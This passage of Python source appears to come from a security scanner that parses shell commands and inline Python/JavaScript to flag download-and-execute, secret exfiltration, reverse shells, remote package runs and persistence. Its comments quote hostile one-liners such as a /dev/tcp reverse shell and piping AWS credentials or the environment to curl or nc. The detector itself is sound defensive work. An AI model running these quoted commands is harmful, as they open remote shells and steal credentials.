        cands.extend([v] if v is not None else [])
        op = _script_operand(args, None)
        if op is not None and v is None:
            cands.append(op)
    elif name in shell.INTERPRETERS:
        lang = shell.INTERPRETERS[name]
        for k, a in enumerate(args):
            if a.text in shell.CODE_FLAGS.get(lang, ()) and k + 1 < len(args):
                cands.append(args[k + 1])
        op = _script_operand([a for a in args if a.text != "run"], lang)
        if op is not None:
            cands.append(op)
    for w in cands:
        f = None
        for sub in w.subs:
            f = _script_fetches(sub)
            if f is not None:
                break
        how = None
        if f is not None:
            how = ("process substitution" if w.process else "command substitution") + f" run by {name or 'the shell'}"
        else:
            for var, fc in tainted.items():
                if re.search(r"\$\{?" + re.escape(var) + r"\b", w.text):
                    f = fc
                    how = f"${var} (assigned from a download) run by {name}"
                    break
        if f is not None:
            why = _strong_source(_urls(f), f.effective()[1])
            j.add(
                RULE_DOWNLOAD_EXEC,
                _sev(j.auto, why is not None),
                st.start,
                st.end,
                _exec_message(how, f, why),
                form="substitution",
            )
            return


def _flag_word(args: Sequence[Word], letter: str) -> Word | None:
    for k, a in enumerate(args):
        t = a.text
        if t.startswith("-") and not t.startswith("--") and t[1:].isalpha() and letter in t[1:]:
            return args[k + 1] if k + 1 < len(args) else None
        if not t.startswith("-"):
            return None
    return None


_REMOTE_SPEC = re.compile(
    r"(?i)^(?:git\+|git://|github:|gitlab:|bitbucket:|gist:|https?://|file:|ssh://|"
    r"[\w.-]+/[\w.-]+(?:#\S*)?$)"
)


def _remote_package(j: _Judge, c: Command) -> None:
    name, args, _w = c.effective()
    texts = [a.text for a in args]
    spec = None
    if name in ("npx", "bunx", "pnpx"):
        for a in args:
            if a.text.startswith("-"):
                continue
            spec = a
            break
        for k, t in enumerate(texts):
            if t in ("-p", "--package") and k + 1 < len(args):
                spec = args[k + 1]
            elif t.startswith("--package="):
                spec = args[k]
    elif name in ("pnpm", "yarn") and texts[:1] == ["dlx"] or name == "npm" and texts[:1] in (["exec"], ["x"]):
        rest = [a for a in args[1:] if not a.text.startswith("-")]
        spec = rest[0] if rest else None
    elif name in ("uvx", "pipx") or (name == "uv" and texts[:2] == ["tool", "run"]):
        for k, t in enumerate(texts):
            if t in ("--from", "--spec") and k + 1 < len(args):
                spec = args[k + 1]
            elif t.startswith("--from=") or t.startswith("--spec="):
                spec = args[k]
        if spec is None:
            rest = [a for a in args if not a.text.startswith("-") and a.text not in ("run", "tool")]
            spec = rest[0] if rest else None
    if spec is None:
        return
    value = spec.text.split("=", 1)[1] if spec.text.startswith("--") else spec.text
    if not _REMOTE_SPEC.match(value) or value.startswith("@"):
        return
    if re.match(r"^[\w.-]+/[\w.-]+$", value) and name in ("uvx", "pipx", "uv"):
        return  # a relative path for the Python tools
    yes = any(t in ("-y", "--yes") for t in texts)
    why = _strong_source([value], ())
    j.add(
        RULE_REMOTE_PACKAGE,
        _sev(j.auto, why is not None),
        c.start,
        c.end,
        f"Runs a package fetched from a remote or git source{' without a prompt' if yes else ''}: "
        f"{_clip(value, 70)}" + (f" ({why})" if why else ""),
    )


def _destination(cmd: Command) -> str | None:
    name, args, _w = cmd.effective()
    for a in args:
        if _URL.match(a.text):
            return a.text
    if name in ("scp", "rsync", "sftp"):
        ops = [a.text for a in args if not a.text.startswith("-")]
        remote = [t for t in ops[1:] if ":" in t and not t.startswith("/")]
        return remote[-1] if remote else None
    if name in SOCKETS:
        for a in args:
            t = a.text
            if not t.startswith("-") and (":" in t or "." in t or t.isalnum()):
                return t
    return None


def _is_local(dest: str | None) -> bool:
    if not dest:
        return False
    d = dest.split("://", 1)[-1]
    d = d.split("@", 1)[-1]
    return bool(_LOCAL.match(d))


_HARMLESS_IN_URL = frozenset(
    {
        "uname",
        "arch",
        "date",
        "dpkg",
        "lsb_release",
        "sw_vers",
        "nproc",
        "basename",
        "dirname",
        "echo",
        "printf",
        "tr",
        "sed",
        "cut",
        "jq",
        "grep",
        "head",
        "tail",
        "awk",
        "python",
        "python3",
        "node",
        "go",
        "rustc",
        "getconf",
        "dpkg-architecture",
        "xcrun",
    }
)
"""Commands whose output in a URL path picks a platform or version build (not data)."""

_SENDING_OPTS_CURL = {
    "-d",
    "--data",
    "--data-binary",
    "--data-urlencode",
    "--data-ascii",
    "-F",
    "--form",
    "--form-string",
    "-T",
    "--upload-file",
    "--json",
}


def _sources_of(script_or_cmds) -> tuple[list[str], list[str]]:
    """``(secret labels, other facts)`` a set of commands reads: secret paths, environment dumps,
    reconnaissance output."""
    secrets: list[str] = []
    other: list[str] = []
    for c in script_or_cmds:
        name, args, _w = c.effective()
        if name in ENV_DUMPS and (
            not args
            or name in ("env", "printenv")
            and all(a.text.startswith("-") for a in args)
            or name in ("export", "declare", "typeset")
            and any(a.text in ("-p", "-x") for a in args)
        ):
            secrets.append("the environment")
        for w in list(args) + [r.target for r in c.redirects if r.reads and r.target is not None]:
            loc = secret_in(w.text)
            if loc is not None:
                secrets.append(loc.label)
            m = _SECRET_VAR.search(w.raw)
            if m and name in ("echo", "printf", "cat"):
                secrets.append(f"${m.group(1)}")
        if name in RECON:
            other.append(name)
    return secrets, other


def _network(j: _Judge, c: Command) -> None:
    """HTTP clients and sockets sending files, the environment or command output."""
    name, args, _w = c.effective()
    if name in DNS_TOOLS:
        for a in args:
            if a.text.startswith("-") or a.text.startswith("@"):
                continue
            if a.subs:
                secrets, other = _sources_of(cmd for s in a.subs for cmd in s.commands())
                j.add(
                    RULE_SUB_NETWORK,
                    Severity.ERROR,
                    c.start,
                    c.end,
                    f"Command output sent in a DNS/network lookup ({name} {_clip(a.raw, 50)}): the host name "
                    "carries data to whoever runs its DNS" + (f"; it includes {', '.join(secrets)}" if secrets else ""),
                )
                return
        return
    for r in c.redirects:  # `bash -i >& /dev/tcp/host/port 0>&1`, `cat f > /dev/udp/host/53`
        t = r.target.text if r.target is not None else ""
        if t.startswith(("/dev/tcp/", "/dev/udp/")) and not _is_local(t[9:]):
            loc = secret_in(t)
            j.add(
                RULE_UPLOAD,
                Severity.ERROR,
                c.start,
                c.end,
                f"Connects {name or 'the shell'}'s input/output to the network socket {_clip(t, 50)}"
                + (" (an interactive shell: a reverse shell)" if name in shell.SHELLS else ""),
            )
            return
    if name not in SENDERS:
        return
    dest = _destination(c)
    local = _is_local(dest)
    texts = [a.text for a in args]
    sent: list[tuple[str, Word]] = []  # (description, word)
    stdin_sent = False
    for k, t in enumerate(texts):
        nxt = args[k + 1] if k + 1 < len(args) else None
        if name in ("curl", "curlie"):
            opt, val = (t, nxt) if t in _SENDING_OPTS_CURL else (None, None)
            if opt is None:
                for o in ("--data=", "--data-binary=", "--form=", "--upload-file=", "--json=", "--data-urlencode="):
                    if t.startswith(o):
                        opt, val = o[:-1], args[k]
            if opt is not None and val is not None:
                v = val.text.split("=", 1)[1] if val is args[k] else val.text
                if opt in ("-T", "--upload-file"):
                    if v in ("-", "."):
                        stdin_sent = True
                    else:
                        sent.append((v, val))
                elif (
                    v.startswith("@")
                    or (opt in ("-F", "--form") and re.match(r"^[^=]*=[@<]", v))
                    or (opt == "--data-urlencode" and re.match(r"^[^=@]*@", v))
                ):
                    f = re.split(r"[@<]", v, maxsplit=1)[1].split(";", 1)[0]
                    if f in ("-", "/dev/stdin"):
                        stdin_sent = True
                    elif f:
                        sent.append((f, val))
                elif val.subs or _SECRET_VAR.search(val.raw):
                    sent.append(("", val))
        elif name in ("wget", "wget2"):
            for o in ("--post-file", "--body-file"):
                if t == o and nxt is not None:
                    sent.append((nxt.text, nxt))
                elif t.startswith(o + "="):
                    sent.append((t.split("=", 1)[1], args[k]))
            if t.startswith("--post-data") or t.startswith("--body-data"):
                w = args[k] if "=" in t else nxt
                if w is not None and (w.subs or _SECRET_VAR.search(w.raw)):
                    sent.append(("", w))
        elif name in ("http", "https", "xh", "xhs", "httpie"):
            if k and ("=@" in t or ":=@" in t or (t.startswith("@") and len(t) > 1)):
                sent.append((re.split(r"@", t, maxsplit=1)[1], args[k]))
        elif name in ("scp", "rsync", "sftp"):
            if k < len(texts) - 1 and not t.startswith("-") and dest and args[k] is not None and t != dest:
                sent.append((t, args[k]))
        elif name == "gh" and texts[:2] == ["gist", "create"] and k >= 2 and not t.startswith("-"):
            sent.append((t, args[k]))
        elif name in ("mail", "mailx", "sendmail") and t == "-A" and nxt is not None:
            sent.append((nxt.text, nxt))
    for r in c.redirects:
        if r.reads and r.target is not None and name in SOCKETS | {"mail", "mailx", "sendmail", "http", "xh"}:
            sent.append((r.target.text, r.target))
        if r.op == "<<<" and r.target is not None and (r.target.subs or _SECRET_VAR.search(r.target.raw)):
            sent.append(("", r.target))
    # URL carrying a substitution or a secret variable
    for k, a in enumerate(args):
        prev = args[k - 1].text if k else ""
        option_value = (
            prev.startswith("-")
            and not prev.startswith("--")
            and len(prev) == 2
            or prev
            in (
                "--header",
                "--data",
                "--data-raw",
                "--data-binary",
                "--user",
                "--cookie",
                "--form",
                "--json",
                "--user-agent",
                "--referer",
                "--output",
                "--upload-file",
                "--proxy",
                "--request",
            )
        )
        url_like = bool(_URL.match(a.text)) or (
            not option_value and not a.text.startswith("-") and bool(re.match(r"^[^\s/]*[.:/]", a.text))
        )
        if url_like and (a.subs or _SECRET_VAR.search(a.raw)):
            if a.subs and not local:
                inner = [cmd for s in a.subs for cmd in s.commands()]
                if all(cmd.effective()[0] in _HARMLESS_IN_URL for cmd in inner):
                    continue  # `…/releases/download/$(uname -s)_$(uname -m).tar.gz`
                secrets, other = _sources_of(inner)
                host = a.text.split("://", 1)[-1].split("/", 1)[0]
                in_host = "$(" in host or "`" in host
                strong = bool(secrets) or in_host or bool(other)
                what = ", ".join(secrets + other) or "command output"
                j.add(
                    RULE_SUB_NETWORK,
                    Severity.ERROR if (strong or j.auto) else Severity.WARNING,
                    c.start,
                    c.end,
                    f"Command output ({_clip(what, 40)}) sent in a request URL: {_clip(a.raw, 60)}",
                )
            elif _SECRET_VAR.search(a.raw) and not local and _URL.match(a.text):
                m = _SECRET_VAR.search(a.raw)
                j.add(
                    RULE_SEND_SECRET,
                    _sev(j.auto, False),
                    c.start,
                    c.end,
                    f"Sends ${m.group(1)} in a request URL to {_clip(dest or a.text, 60)}",
                )
    for desc, w in sent:
        if desc in ("/dev/null", "/dev/zero", "-"):
            continue
        secrets: list[str] = []
        if desc:
            loc = secret_in(desc)
            if loc is not None:
                secrets.append(loc.label)
        for sub in w.subs:
            s2, o2 = _sources_of(sub.commands())
            secrets.extend(s2)
        m = _SECRET_VAR.search(w.raw)
        var_only = not secrets and bool(m)
        if m:
            secrets.append(f"${m.group(1)}")
        if var_only:  # `-d "token=$API_TOKEN"` is how many APIs take their own key: a warning
            j.add(
                RULE_SEND_SECRET,
                Severity.WARNING if not j.auto else Severity.ERROR,
                c.start,
                c.end,
                f"Sends {secrets[0]} to {_clip(dest or 'a remote host', 60)} ({name})",
            )
        elif secrets:
            j.add(
                RULE_SEND_SECRET,
                Severity.WARNING if local else Severity.ERROR,
                c.start,
                c.end,
                f"Sends {', '.join(dict.fromkeys(secrets))} to {_clip(dest or 'a remote host', 60)} ({name})",
            )
        elif desc and not local:
            j.add(
                RULE_UPLOAD,
                _sev(j.auto, False),
                c.start,
                c.end,
                f"Sends the file {_clip(desc, 50)} to {_clip(dest or 'a remote host', 60)} ({name})",
            )
    if stdin_sent or (name in SOCKETS and (name != "openssl" or "s_client" in texts)):
        c._stdin_sent = True  # type: ignore[attr-defined]  # judged with the pipeline in _pipes_send
        c._dest = dest  # type: ignore[attr-defined]


def _pipes_send(j: _Judge, s: Script) -> None:
    """``cat ~/.aws/credentials | curl --data-binary @- …``, ``env | nc host 80``."""
    for p in s.pipelines:
        for k, st in enumerate(p.stages):
            if not getattr(st, "_stdin_sent", False) or k == 0:
                continue
            before = []
            for c in p.stages[:k]:
                before.append(c)
                if c.body is not None:
                    before.extend(c.body.commands())
                for w in c.words():
                    for sub in w.subs:
                        before.extend(sub.commands())
            secrets, other = _sources_of(before)
            dest = getattr(st, "_dest", None)
            if secrets:
                j.add(
                    RULE_SEND_SECRET,
                    Severity.WARNING if _is_local(dest) else Severity.ERROR,
                    p.start,
                    p.end,
                    f"Sends {', '.join(dict.fromkeys(secrets))} to {_clip(dest or 'a remote host', 60)} "
                    f"(piped into {st.effective()[0]})",
                )
            elif not _is_local(dest) and st.effective()[0] in SOCKETS:
                j.add(
                    RULE_UPLOAD,
                    _sev(j.auto, False),
                    p.start,
                    p.end,
                    f"Pipes command output to {_clip(dest or 'a remote host', 60)} ({st.effective()[0]})",
                )


_GIT_PERSIST_KEYS = re.compile(
    r"(?i)^(?:core\.(?:hookspath|sshcommand|fsmonitor|pager|editor|askpass)|"
    r"alias\..+|credential\..*helper|include\.path|includeif\..+|filter\..+\.(?:clean|smudge|process)|"
    r"diff\..+\.(?:textconv|command)|merge\..+\.driver|gpg\.program|sequence\.editor|"
    r"url\..+\.insteadof|http\.proxy|init\.templatedir)$"
)


def _written_paths(c: Command) -> list[Word]:
    name, args, _w = c.effective()
    out = [r.target for r in c.redirects if r.writes and r.target is not None]
    ops = [a for a in args if not a.text.startswith("-")]
    if name == "tee":
        out.extend(ops)
    elif name in ("cp", "mv", "install", "rsync", "ln", "scp", "ditto") and len(ops) >= 2:
        out.append(ops[-1])
    elif name in ("sed", "perl") and any(a.text.startswith("-i") or a.text.startswith("-pi") for a in args):
        out.extend(ops[1:] if name == "sed" else ops[1:])
    elif name == "dd":
        out.extend(a for a in args if a.text.startswith("of="))
    elif name == "chmod" and any(
        "x" in a.text
        for a in args
        if a.text.startswith("+") or a.text[:1].isdigit() or a.text.startswith("u+") or a.text.startswith("a+")
    ):
        out.extend(ops[1:])
    elif name in FETCHERS:
        out.extend(Word(f, f, c.start, c.end) for f in _downloaded_files(c) if f)
    return out


def _content_of(c: Command) -> str:
    name, args, _w = c.effective()
    parts = []
    if name in ("tee", "crontab", "cat", "dd", "sudo") and getattr(c, "_stdin_content", ""):
        parts.append(c._stdin_content)  # type: ignore[attr-defined]
    if name in ("echo", "printf"):
        parts.extend(a.text for a in args)
    for r in c.redirects:
        if r.body is not None:
            parts.append(r.body)
        elif r.op == "<<<" and r.target is not None:
            parts.append(r.target.text)
    return "\n".join(parts)


def _dangerous_content(text: str) -> str | None:
    if not text.strip():
        return None
    text = (
        re.sub(r"(?m)^\s*(?:@\w+|(?:\S+\s+){5})(?=\S)", "", text)
        if re.match(r"^\s*(?:@\w+|[\d*/,-]+\s)", text)
        else text
    )
    sub = shell.parse(text, 0, depth=1)
    for h in judge_script(sub, "code"):
        if h.rule in (RULE_DOWNLOAD_EXEC, RULE_SEND_SECRET, RULE_SUB_NETWORK, RULE_REMOTE_PACKAGE):
            return _clip(h.message, 70)
    if _URL.search(text) and re.search(r"\b(?:curl|wget|nc|bash|sh)\b", text):
        return "a network command"
    return None


def _persistence(j: _Judge, c: Command) -> None:
    name, args, _w = c.effective()
    texts = [a.text for a in args]
    hit: tuple[str, int, int] | None = None
    for w in _written_paths(c):
        loc = next((x for x in (match_location(t, "persistence_paths") for t in _path_candidates(w.text)) if x), None)
        if loc is not None:
            hit = (f"writes {loc.label} {_clip(w.text, 50)}", c.start, c.end)
            break
    if hit is None and name == "crontab" and texts and not any(t in ("-l", "-r", "-e") for t in texts):
        hit = ("installs a crontab", c.start, c.end)
    if hit is None and name == "crontab" and "-e" in texts:
        hit = ("edits the crontab", c.start, c.end)
    if hit is None and name == "git" and "config" in texts[:3]:
        keys = [t for t in texts if not t.startswith("-") and t != "config"]
        if keys and _GIT_PERSIST_KEYS.match(keys[0]) and len(keys) >= 2:
            if not (keys[0].lower().startswith("alias.") and not keys[1].startswith("!")):
                hit = (f"sets git {keys[0]}", c.start, c.end)
    if hit is None and name == "systemctl" and "enable" in texts:
        hit = ("enables a systemd unit", c.start, c.end)
    if hit is None and name == "launchctl" and any(t in ("load", "bootstrap", "submit", "enable") for t in texts):
        hit = ("loads a launchd job", c.start, c.end)
    if hit is None and name == "schtasks" and any(t.lower() == "/create" for t in texts):
        hit = ("creates a scheduled task", c.start, c.end)
    if (
        hit is None
        and name == "reg"
        and texts[:1]
        and texts[0].lower() == "add"
        and any("\\run" in t.lower() for t in texts)
    ):
        hit = ("adds a Windows Run key", c.start, c.end)
    if hit is None:
        return
    what, a, b = hit
    content = _content_of(c)
    why = _dangerous_content(content) if content else None
    sev = _sev(j.auto, why is not None)
    j.add(RULE_PERSISTENCE, sev, a, b, f"Persistence: {what}" + (f"; what it writes: {why}" if why else ""))


def _secret_paths(j: _Judge, c: Command) -> None:
    name, args, _w = c.effective()
    if not name:
        return
    written = {id(w) for w in _written_paths(c)}
    for w in list(args) + [r.target for r in c.redirects if r.reads and r.target is not None]:
        if id(w) in written or w.text.startswith("-") and "=" not in w.text and "@" not in w.text:
            continue
        loc = secret_in(w.text)
        if loc is None:
            continue
        if name in SENDERS:
            continue  # judged as sending (EXF011)
        manage = name in READ_LIKE_SKIP
        if manage and not j.auto:
            continue
        sev = Severity.WARNING if manage else _sev(j.auto, False)
        j.add(
            RULE_SECRET_PATH,
            sev,
            c.start,
            c.end,
            f"{'Uses' if manage else 'Reads'} {loc.label}: {name} {_clip(w.text, 60)}",
            location=loc.id,
        )
        return


# --------------------------------------------------------------------------------------------
# Snippets (inline Python / Node)
# --------------------------------------------------------------------------------------------

_PY_SEND = {
    "post",
    "put",
    "patch",
    "request",
    "urlopen",
    "send",
    "sendall",
    "sendto",
    "sendmail",
    "upload_file",
    "put_object",
    "connect_ex",
    "Request",
}
_PY_FETCH = {"get", "urlopen", "urlretrieve", "read", "text", "content"}
_JS_STR = re.compile(r"""(['"`])((?:\\.|(?!\1)[^\\\n]){0,2000})\1""")
_JS_SEND = re.compile(
    r"\b(?:fetch|axios(?:\.(?:post|put|patch|request))?|https?\.request|request\.post|got\.post|"
    r"superagent\.post|\$\.post|navigator\.sendBeacon|net\.connect|socket\.write|WebSocket)\s*\("
)
_JS_ENV = re.compile(r"\bprocess\.env\b(?!\s*\.\s*\w|\s*\[)")
_JS_READ = re.compile(r"\b(?:readFileSync|readFile|createReadStream)\s*\(")
_JS_EXEC = re.compile(
    r"\b(?:execSync|exec|spawnSync|spawn|execFileSync|execFile)\s*\(\s*(['\"`])((?:\\.|(?!\1)[^\\\n]){0,2000})\1"
)
_JS_EVAL_FETCH = re.compile(
    r"\b(?:eval|Function|vm\.runIn\w+)\s*\([^)]{0,200}?\b(?:fetch|https?\.get|axios|got)\b", re.S
)
_JS_WRITE = re.compile(r"\b(?:writeFileSync|appendFileSync|writeFile|appendFile|createWriteStream)\s*\(")


def judge_snippet(sn: Snippet, origin: str) -> list[Hit]:
    """Hits of a Python or JavaScript snippet (``python -c`` bodies, here-documents, fences):
    network sends of secret files or the environment (EXF011/EXF012), ``exec`` of downloaded code
    (SUP011), shell strings passed to ``os.system``/``subprocess``/``execSync`` (parsed as shell,
    judged recursively), writes to persistence locations (PER011) and secret paths (SNP015)."""
    if sn.language == "python":
        return _judge_python(sn, origin)
    if sn.language == "javascript":
        return _judge_js(sn, origin)
    return []


def _judge_python(sn: Snippet, origin: str) -> list[Hit]:
    j = _Judge(origin)
    try:
        tree = ast.parse(sn.text)
    except (SyntaxError, ValueError, RecursionError, MemoryError):
        return _judge_js(Snippet("python", sn.text, sn.omap, sn.via), origin, python=True)
    a, b = sn.start, sn.end
    strings: list[str] = []
    sends = False
    env = False
    reads: list[str] = []
    writes: list[str] = []
    fetch_exec = False
    shell_strings: list[tuple[str, ast.AST]] = []

    def const_str(n) -> str | None:
        if isinstance(n, ast.Constant) and isinstance(n.value, str):
            return n.value
        if isinstance(n, ast.JoinedStr):
            return "".join(v.value if isinstance(v, ast.Constant) else "~" for v in n.values)
        if isinstance(n, ast.Call) and _attr(n.func) in ("join", "expanduser", "Path", "expandvars") and n.args:
            parts = [const_str(x) for x in n.args]
            if all(p is not None for p in parts):
                return "/".join(parts)  # type: ignore[arg-type]
        if isinstance(n, ast.BinOp) and isinstance(n.op, (ast.Add, ast.Div)):
            left, right = const_str(n.left), const_str(n.right)
            if right is not None:
                return (left or "~") + ("/" if isinstance(n.op, ast.Div) else "") + right
        return None

    try:
        for node in ast.walk(tree):
            if isinstance(node, ast.Constant) and isinstance(node.value, str):
                strings.append(node.value)
            if isinstance(node, ast.Attribute) and node.attr == "environ":
                env = env or True
            if isinstance(node, ast.Call):
                fn = _attr(node.func)
                if fn in _PY_SEND:
                    sends = True
                if fn == "open" and node.args:
                    p = const_str(node.args[0])
                    mode = const_str(node.args[1]) if len(node.args) > 1 else None
                    for kw in node.keywords:
                        if kw.arg == "mode":
                            mode = const_str(kw.value)
                    if p is not None:
                        (writes if mode and any(m in mode for m in "wax") else reads).append(p)
                if fn in ("read_text", "read_bytes") and isinstance(node.func, ast.Attribute):
                    p = (
                        const_str(node.func.value.args[0])
                        if isinstance(node.func.value, ast.Call) and node.func.value.args
                        else None
                    )
                    if p:
                        reads.append(p)
                if fn in ("write_text", "write_bytes") and isinstance(node.func, ast.Attribute):
                    p = (
                        const_str(node.func.value.args[0])
                        if isinstance(node.func.value, ast.Call) and node.func.value.args
                        else None
                    )
                    if p:
                        writes.append(p)
                if fn in ("exec", "eval", "compile") and any(
                    _attr(getattr(x, "func", None)) in _PY_FETCH or _calls_fetch(x) for x in node.args
                ):
                    fetch_exec = True
                if (
                    fn
                    in (
                        "system",
                        "popen",
                        "run",
                        "call",
                        "check_call",
                        "check_output",
                        "Popen",
                        "getoutput",
                        "getstatusoutput",
                        "spawn",
                    )
                    and node.args
                ):
                    arg = node.args[0]
                    s = const_str(arg)
                    if s is not None:
                        shell_strings.append((s, arg))
                    elif isinstance(arg, (ast.List, ast.Tuple)):
                        parts = [const_str(x) for x in arg.elts]
                        if parts and all(p is not None for p in parts):
                            shell_strings.append((" ".join(_q(p) for p in parts), arg))  # type: ignore[arg-type]
    except RecursionError:
        pass
    if fetch_exec:
        j.add(
            RULE_DOWNLOAD_EXEC,
            _sev(j.auto, False),
            a,
            b,
            f"{_lang_label(sn)} code downloads code and runs it (exec/eval of a fetched response)",
            form="snippet",
        )
    secret_hits = [loc.label for p in reads + strings if (loc := secret_in(p)) is not None]
    if sends and (secret_hits or env):
        what = ", ".join(dict.fromkeys(secret_hits + (["the environment"] if env and _env_wholesale(sn.text) else [])))
        if what:
            j.add(RULE_SEND_SECRET, Severity.ERROR, a, b, f"{_lang_label(sn)} code sends {what} over the network")
    elif sends and reads:
        j.add(
            RULE_UPLOAD,
            _sev(j.auto, False),
            a,
            b,
            f"{_lang_label(sn)} code reads {_clip(reads[0], 40)} and sends data over the network",
        )
    elif secret_hits:
        j.add(RULE_SECRET_PATH, _sev(j.auto, False), a, b, f"{_lang_label(sn)} code reads {secret_hits[0]}")
    for p in writes:
        loc = match_location(p, "persistence_paths")
        if loc is not None:
            j.add(
                RULE_PERSISTENCE,
                _sev(j.auto, False),
                a,
                b,
                f"Persistence: {_lang_label(sn)} code writes {loc.label} {p}",
            )
            break
    for s, node in shell_strings:
        off = _python_offset(sn, node)
        sub = shell.parse(s, off, depth=1)
        j.hits.extend(h for h in judge_script(sub, j.origin))
    return j.hits


def _q(s: str) -> str:
    return s if re.fullmatch(r"[\w./:@%+=,-]+", s) else "'" + s.replace("'", "'\\''") + "'"


def _env_wholesale(text: str) -> bool:
    return (
        bool(re.search(r"\bos\.environ\b(?!\s*(?:\[|\.get\b|\.setdefault\b|\.pop\b))", text)) or "process.env" in text
    )


def _python_offset(sn: Snippet, node) -> OffsetMap:
    """Offsets of a Python string literal's value (contiguous when the literal has no escapes)."""
    try:
        lines = sn.text.split("\n")
        idx = sum(len(x) + 1 for x in lines[: node.lineno - 1]) + len(
            lines[node.lineno - 1].encode("utf-8")[: node.col_offset].decode("utf-8", "replace")
        )
        q = sn.text[idx : idx + 3]
        skip = 3 if q in ('"""', "'''") else (1 if q[:1] in "\"'" else 0)
        return sn.omap.shift(idx + skip)
    except Exception:  # noqa: BLE001
        return sn.omap


def _calls_fetch(node) -> bool:
    for n in ast.walk(node):
        if isinstance(n, ast.Call) and _attr(n.func) in ("urlopen", "get", "urlretrieve", "request"):
            return True
    return False


def _attr(fn) -> str:
    if isinstance(fn, ast.Attribute):
        return fn.attr
    if isinstance(fn, ast.Name):
        return fn.id
    return ""


def _lang_label(sn: Snippet) -> str:
    return {"python": "Python", "javascript": "JavaScript"}.get(sn.language, sn.language)


def _judge_js(sn: Snippet, origin: str, python: bool = False) -> list[Hit]:
    j = _Judge(origin)
    text = sn.text
    a, b = sn.start, sn.end
    strings = [m.group(2) for m in _JS_STR.finditer(text)]
    joined = re.findall(r"path\.join\(([^)]{0,300})\)", text)
    for args in joined:
        parts = [m.group(2) for m in _JS_STR.finditer(args)]
        if parts:
            strings.append("~/" + "/".join(parts))
    secrets = [loc.label for s in strings if (loc := secret_in(s)) is not None]
    sends = bool(_JS_SEND.search(text)) or (python and bool(re.search(r"\b(?:requests|httpx|urllib)\b", text)))
    env = bool(_JS_ENV.search(text)) or (python and _env_wholesale(text))
    if _JS_EVAL_FETCH.search(text) or (
        python and re.search(r"\bexec\s*\([^)]{0,200}\b(?:urlopen|requests\.get)", text)
    ):
        j.add(
            RULE_DOWNLOAD_EXEC,
            _sev(j.auto, False),
            a,
            b,
            f"{_lang_label(sn)} code downloads code and runs it (eval of a fetched response)",
            form="snippet",
        )
    if sends and (secrets or env):
        what = ", ".join(dict.fromkeys(secrets + (["the environment"] if env else [])))
        j.add(RULE_SEND_SECRET, Severity.ERROR, a, b, f"{_lang_label(sn)} code sends {what} over the network")
    elif sends and _JS_READ.search(text):
        j.add(
            RULE_UPLOAD, _sev(j.auto, False), a, b, f"{_lang_label(sn)} code reads a file and sends it over the network"
        )
    elif secrets:
        j.add(RULE_SECRET_PATH, _sev(j.auto, False), a, b, f"{_lang_label(sn)} code reads {secrets[0]}")
    if _JS_WRITE.search(text):
        for s in strings:
            loc = match_location(s, "persistence_paths")
            if loc is not None:
                j.add(
                    RULE_PERSISTENCE,
                    _sev(j.auto, False),
                    a,
                    b,
                    f"Persistence: {_lang_label(sn)} code writes {loc.label} {_clip(s, 50)}",
                )
                break
    for m in _JS_EXEC.finditer(text):
        sub = shell.parse(m.group(2).replace("\\'", "'").replace('\\"', '"'), sn.omap.shift(m.start(2)), depth=1)
        j.hits.extend(judge_script(sub, j.origin))
    return j.hits


# --------------------------------------------------------------------------------------------
# Findings
# --------------------------------------------------------------------------------------------


def _finalize(hits: list[Hit], origin: str, hidden: bool = False) -> list[Finding]:
    """Hits → findings: one per rule per range (the outermost of nested same-rule hits, at the
    highest severity among them)."""
    hits = sorted(hits, key=lambda h: (h.start, -(h.end - h.start), h.severity))
    kept: list[Hit] = []
    for h in hits:
        if h.end <= h.start:
            h.end = h.start + 1
        if hidden and h.severity > Severity.ERROR and h.rule != RULE_TRUNCATED:
            h.severity = Severity(h.severity - 1)
        dup = next((k for k in kept if k.rule == h.rule and k.start <= h.start and h.end <= k.end), None)
        if dup is not None:
            if h.severity < dup.severity:
                dup.severity = h.severity
                dup.message = h.message
            continue
        kept.append(h)
    out = []
    label = {
        "hook": "hook command",
        "bang": "!-command (runs when invoked)",
        "config": "frontmatter command",
        "permission": "allowed-tools pattern",
        "code": "",
        "decoded": "decoded payload",
        "hidden": "hidden text",
    }.get(origin, origin)
    for h in kept:
        cat = CATEGORY[h.rule]
        msg = h.message + (f" [{label}]" if label else "")
        data = {"region": origin, "origin": origin, "parsed": True, **h.facts}
        if cat in COMBO:
            data["combo"] = COMBO[cat]
        out.append(Finding(h.rule, h.severity, h.start, h.end, msg, category=cat, data=data))
    return out


def command_findings(
    text: str, base_offset: int | OffsetMap = 0, origin: str = "decoded", language: str = "shell"
) -> list[Finding]:
    """Parse ``text`` as shell (or, with ``language="python"``/``"javascript"``, as a snippet)
    and judge it. ``base_offset``: code-point offset of ``text`` in the document (or an
    :class:`~unveil.core.shell.OffsetMap` for text assembled from several places); ``origin``:
    where it was found (``code``, ``hook``, ``bang``, ``config``, ``permission``, ``decoded``,
    ``hidden``; ``hidden`` and ``decoded`` raise each finding one step). Never raises."""
    try:
        omap = base_offset if isinstance(base_offset, OffsetMap) else OffsetMap.at(base_offset)
        if language == "shell":
            hits = judge_script(shell.parse(text, omap), origin)
        else:
            hits = judge_snippet(Snippet(language, text, omap, "fence"), origin)
        return _finalize(hits, origin, hidden=origin in ("hidden", "decoded"))
    except ImportError:
        raise  # tree-sitter missing: analyze() reports UNV001 (this check did not run) instead of silence
    except Exception as exc:  # noqa: BLE001 - one bad string never stops the analysis
        log.warning("command judgement failed: %s", exc, exc_info=True)
        return []


# --------------------------------------------------------------------------------------------
# Where commands are: the document
# --------------------------------------------------------------------------------------------

_PROMPT = re.compile(r"^\s*(?:\(\S+\)\s*)?(?:[\w.@~:/-]*[$%❯›]|PS [^>]*>|>>>?)\s")


def _fence_body(doc, fence) -> tuple[str, OffsetMap] | None:
    """The body of a fenced block with its container prefix (blockquote markers, list indentation)
    removed, and its offsets."""
    first = fence.line + 1
    last = doc.line_of(max(fence.start, fence.end - 1)) if fence.end > fence.start else fence.line
    if last < first:
        return None
    open_line = doc.line_text(fence.line)
    m = re.match(r"^([ \t>]*?(?:(?:[-*+]|\d+[.)])[ \t]+)*)([`~]{3,})", open_line)
    prefix = m.group(1) if m else ""
    marker = m.group(2) if m else "```"
    indent = len(prefix.replace(">", " "))
    quoted = prefix.count(">")
    close = re.compile(r"^[ \t>]*" + re.escape(marker[0]) + "{" + str(len(marker)) + r",}[ \t]*$")
    if last >= first and close.match(doc.line_text(last)):
        last -= 1
    pieces: list[str] = []
    pts: list[tuple[int, int]] = []
    pos = 0
    for ln in range(first, last + 1):
        src = doc.line_text(ln)
        k = 0
        for _ in range(quoted):
